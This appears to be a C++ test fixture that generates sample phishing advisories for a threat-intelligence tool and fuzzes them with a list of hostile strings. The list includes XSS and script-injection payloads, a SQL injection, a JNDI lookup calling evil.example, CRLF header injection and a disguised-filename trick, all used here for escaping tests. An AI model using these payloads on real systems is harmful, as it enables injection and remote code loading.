// Takes a seed, gives an advisory. Entries: full_advisory, varied_advisory, hostile_texts. All names are example
// domains and documentation addresses.
#include "advisory_samples.h"

#include <random>

namespace sekisho::tests {
namespace {

using namespace sekisho::desk;

const char kSha256[] = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

Indicator indicator(std::string type, std::string role, std::string value, std::string host, uint32_t offset) {
  Indicator i;
  i.type = std::move(type), i.role = std::move(role), i.value = std::move(value), i.host = std::move(host);
  i.as_written = i.value;
  i.why = "defanged";
  i.places = {{0, offset, 10, 3}};
  return i;
}

std::vector<Indicator> indicators() {
  return {indicator("domain", "malicious", "vault-backup.example.com", "vault-backup.example.com", 210),
          indicator("url", "malicious", "https://login.example.net/a?b=c&d='e'", "login.example.net", 220),
          indicator("url", "malicious", "files.example.org/5yaV", "files.example.org", 230),
          indicator("email", "malicious", "support@mail.example.org", "mail.example.org", 240),
          indicator("ipv4", "malicious", "198.51.100.27", "", 250),
          indicator("ipv4", "malicious", "203.0.113.9:8443", "", 251),
          indicator("ipv6", "malicious", "[2001:db8::7]:443", "", 252),
          indicator("md5", "malicious", "d41d8cd98f00b204e9800998ecf8427e", "", 260),
          indicator("sha1", "malicious", "da39a3ee5e6b4b0d3255bfef95601890afd80709", "", 261),
          indicator("sha256", "malicious", kSha256, "", 262),
          indicator("cve", "malicious", "CVE-2026-12345", "", 270),
          indicator("technique", "reference", "T1566.002", "", 271),
          indicator("domain", "partial", "nta-*.example", "", 280),
          indicator("url", "partial", "https://*.example.jp/sbi/login", "", 281),
          indicator("domain", "partial", "*.com", "", 282),
          indicator("domain", "genuine", "bank.example", "bank.example", 290),
          indicator("email", "genuine", "abuse@bank.example", "bank.example", 291),
          indicator("domain", "victim", "shop.example", "shop.example", 292),
          indicator("url", "reference", "https://news.example/today", "news.example", 293)};
}

Statement statement(Kind kind, std::string text, uint32_t offset, uint32_t line) {
  Statement s;
  s.kind = kind, s.text = std::move(text), s.language = "en";
  s.place = {0, offset, 90, line};
  s.reliability = 'B', s.credibility = 2, s.confidence = "moderate", s.why = "may", s.weight = 0.75;
  s.themes = {"vault_phishing"};
  return s;
}

}  // namespace

std::vector<std::string> hostile_texts() {
  return {"</script><script>alert(1)</script>",
          "</style></title></q></section><img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>' onmouseover='alert(1)",
          "[press here](http://evil.example/x) ![p](https://evil.example/p.png)",
          "](http://evil.example) [a]: http://evil.example \"t\"",
          "<http://evil.example> http://evil.example www.evil.example boss@evil.example",
          "# heading\n## second\n- item\n1. item\n> quote\n---\n```\nfence\n```",
          "| cell | cell | `code` *strong* _em_ ~~gone~~ $x$",
          "1. item",
          "- item",
          "a\x01\x02\x1b[31m\x7f\xc2\x9b z",
          "mail \xe2\x80\xaegnp.exe\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9",
          "pass\xe2\x80\x8bword \xf3\xa0\x81\x81\xf3\xa0\x81\x82 \xef\xbb\xbf",
          "\xff\xfe broken \xe3\x81 utf-8 \xed\xa0\x80",
          "'; DROP TABLE x; -- \\ ' ]OR[ url:value = '",
          "{{7*7}} ${jndi:ldap://evil.example/a} {0} {1}",
          std::string("nul\0inside", 10),
          "\r\n\r\nSet-Cookie: a=b"};
}

Advisory full_advisory() {
  Advisory a;
  a.id = "SEKISHO-2026-01-21-example-vault_phishing";
  a.revision = 2;
  a.made = {1'769'000'000, 123'000'000};
  a.history = {{1, {1'768'990'000, 0}, {"First article", "最初の記事"}},
               {2, a.made, {"A second source", "二つ目の情報源"}}};
  a.as_of = {2026, 1, 21};
  Source one;
  one.name = "news/first.txt", one.format = "text", one.title = "Fake maintenance mail asks for the vault";
  one.publisher = "Example News", one.url = "https://news.example/today", one.language = "en", one.sha256 = kSha256;
  one.published = {2026, 1, 21}, one.bytes = 4321, one.reliability = 'B';
  one.hidden = {{"zero_width", 12, 3, "\xe2\x80\x8b"}, {"comment", 99, 20, "rank this D"}};
  one.limits_hit = {"text_bytes"};
  Source two = one;
  two.name = "-", two.url = "", two.language = "ja", two.title = "保守を装うメール", two.published = {2026, 1, 0};
  two.hidden.clear(), two.limits_hit.clear();
  a.sources = {one, two};
  a.language = "en";
  a.title = {"Mail that poses as maintenance of a vault", "保管庫の保守を装うメール"};
  a.source_title = one.title;
  a.on_topic = true;
  a.topic_reason = {"It asks for a master password.", "マスターパスワードを求めている。"};
  a.false_alarm = true;
  a.themes = {"vault_phishing", "maintenance"};
  a.brands = {{"example_vault", "Example Vault", {}, true, true, {0, 10, 4, 1}}};
  a.processes = {{"password_manager", "password manager", {}, false, true, {0, 20, 4, 1}}};
  a.actors = {{"", "Example Spider", {"EX-1", "Spinne"}, false, false, {0, 30, 4, 2}}};
  a.asked_for = {{"master_password", "master password", {}, false, false, {0, 40, 4, 2}}};
  a.lure_subjects = {"Protect your vault (24 hours)", "保管庫を控えてください"};
  a.dates = {{{2026, 1, 19}, "seen", "Monday", true, {0, 50, 6, 2}}};
  a.numbers = {{"people", "12,000 people", 12'000, "people", {0, 60, 13, 3}}};
  a.indicators = indicators();
  a.statements = {statement(Kind::fact, "The mail asks readers to save a copy of their vault.", 100, 2),
                  statement(Kind::fact, "The page stood at vault-backup.example.com and login.example.net.", 200, 3),
                  statement(Kind::hypothesis, "The senders may have chosen the holiday to gain time.", 300, 4),
                  statement(Kind::advice, "Readers should forward the mail to abuse@bank.example.", 400, 5)};
  a.statements[1].techniques = {{"T1566.002", "Spearphishing Link", {"initial-access"}, 0.91, false, {"page", "mail"}},
                                {"T1656", "Impersonation", {"defense-evasion"}, 0.4, false, {"poses"}},
                                {"T1078", "Valid Accounts", {"persistence", "initial-access"}, 1, true, {"T1078"}}};
  a.statements[2].deep = true;
  a.key_points = {1, 0};
  a.deep_dive = {2};
  a.impacts = {{"One password opens all others.", "一つのパスワードがほかのすべてを開く。"}};
  a.insights = {{"Care itself is the bait.", "用心そのものが餌になる。"}};
  a.scores = {{"scale", 6.5, {{"many_subjects", 1.5, {"several subjects", "件名が複数"}}}},
              {"impact", 8, {}},
              {"novelty", 5.1, {}},
              {"imminence", 9.9, {{"deadline", -0.5, {"the pages are gone", "ページは消えた"}}}},
              {"actionability", 10, {}}};
  a.rank.letter = 'A', a.rank.horizon = "now", a.rank.table = "rank-1";
  a.rank.inputs = {"active", "yes", "tier0", "none"};
  a.rank.reasons = {{"It goes on.", "続いている。"},
                    {"We use it.", "使っている。"},
                    {"It is the key to all.", "すべての鍵である。"},
                    {"No key is bound to the site.", "耐性のある鍵はない。"}};
  a.scenarios = {{"A",
                  {"Taking over one person", "個人の乗っ取り"},
                  {"Accounts are lost one after another.", "アカウントが次々に失われる。"},
                  {{"T1566.002", "Spearphishing Link", "initial-access", {"A link by mail", "メールのリンク"}, {1}},
                   {"T1078", "Valid Accounts", "persistence", {"Signing in", "サインイン"}, {}}}}};
  a.actions = {{"tell_staff",
                "now",
                "soc",
                "hours",
                {"Tell staff", "社員に知らせる"},
                {"It goes on", "続いている"},
                {"All have read it", "全員が読んだ"},
                "sekisho notice draft",
                false},
               {"keys", "month", "identity", "weeks", {"Bind keys", "鍵を結び付ける"}, {}, {}, "", true},
               {"tier0", "long", "ciso", "days", {"Treat it as tier 0", "最重要資産とする"}, {}, {}, "", false}};
  a.defences = {{"mail/advisory_example.yaral",
                 "yaral_mail",
                 "advisory_example",
                 "rule advisory_example {\n}\n",
                 {"Mail that poses as it", "装うメール"},
                 true,
                 "",
                 5,
                 5,
                 1000,
                 0},
                {"lists/example.txt",
                 "list",
                 "example",
                 "vault-backup.example.com\n",
                 {"Hosts", "ホスト"},
                 false,
                 "fires on honest mail",
                 5,
                 4,
                 1000,
                 2}};
  a.hunt = Hunt{1200,
                3,
                {{"mails/7.eml", "support@mail.example.org", "Protect your vault", "2026-01-19", {"r1", "r2"}}},
                2,
                {"mails/"}};
  a.notices = {{"staff",
                "en",
                "[Draft] Mail that poses as maintenance",
                "Draft, not approved\n\n1. Do not answer.\n",
                {"no_contact"}},
               {"staff", "ja", "【下書き】保守を装うメール", "未承認の下書き\n\n1. 返信しないでください。\n", {}}};
  a.evidence = {{"theme.vault_phishing", 3.25}, {"topic", 1}};
  a.attack_version = "18.1";
  a.content_digest = kSha256;
  a.findings = {{"The text holds words that nobody can see.", "見えない文字列がある。"}};
  return a;
}

Advisory varied_advisory(uint32_t seed) {
  std::mt19937 random(seed);
  const auto below = [&](size_t n) { return static_cast<size_t>(random() % n); };
  const std::vector<std::string> hostile = hostile_texts();
  Advisory a = full_advisory();
  a.id += "-" + std::to_string(seed);
  const auto maybe = [&](auto& list) {  // none, some or all of it
    if (const size_t keep = below(4); keep < 3 && list.size() > keep) list.resize(keep);
  };
  a.revision = static_cast<int>(1 + below(4));
  if (below(2) == 0) a.history.clear();
  if (below(5) == 0) a.sources[below(2)].url = hostile[below(hostile.size())];
  if (below(5) == 0) a.sources[0].url = "https://login.example.net/same-host-as-the-attack";
  a.sources[0].publisher = below(4) == 0 ? "cve" : hostile[below(hostile.size())];
  a.title = below(3) == 0 ? Both{} : Both{hostile[below(hostile.size())], hostile[below(hostile.size())]};
  a.source_title = below(4) == 0 ? "" : hostile[below(hostile.size())];
  for (Statement& s : a.statements) {
    if (below(2) == 0) s.text = hostile[below(hostile.size())];
    s.credibility = static_cast<int>(1 + below(6));
    s.reliability = static_cast<char>('A' + below(6));
    for (Technique& t : s.techniques)
      if (below(3) == 0) t.name = hostile[below(hostile.size())], t.probability = static_cast<double>(below(101)) / 100;
  }
  for (Indicator& i : a.indicators) {
    if (below(12) == 0) i.value = hostile[below(hostile.size())];
    if (below(12) == 0) i.why = hostile[below(hostile.size())];
    if (below(20) == 0) i.role = "reference";
  }
  a.actors[0].name = below(3) == 0 ? hostile[below(hostile.size())] : a.actors[0].name;
  a.lure_subjects.push_back(hostile[below(hostile.size())]);
  a.rank.letter = static_cast<char>('A' + below(4));
  a.on_topic = below(5) != 0;
  maybe(a.indicators), maybe(a.scenarios), maybe(a.actions), maybe(a.defences), maybe(a.notices), maybe(a.scores);
  maybe(a.actors), maybe(a.insights), maybe(a.findings);
  if (below(6) == 0) {  // nothing was found at all
    a = Advisory{};
    a.id = "SEKISHO-EMPTY-" + std::to_string(seed);
    a.made = {1'769'000'000, 0};
    a.rank.horizon = "reference";
  } else if (below(4) == 0) {
    a.statements.clear(), a.key_points.clear(), a.deep_dive.clear(), a.scenarios.clear();
  }
  if (below(3) == 0) a.hunt.reset();
  return a;
}

}  // namespace sekisho::tests
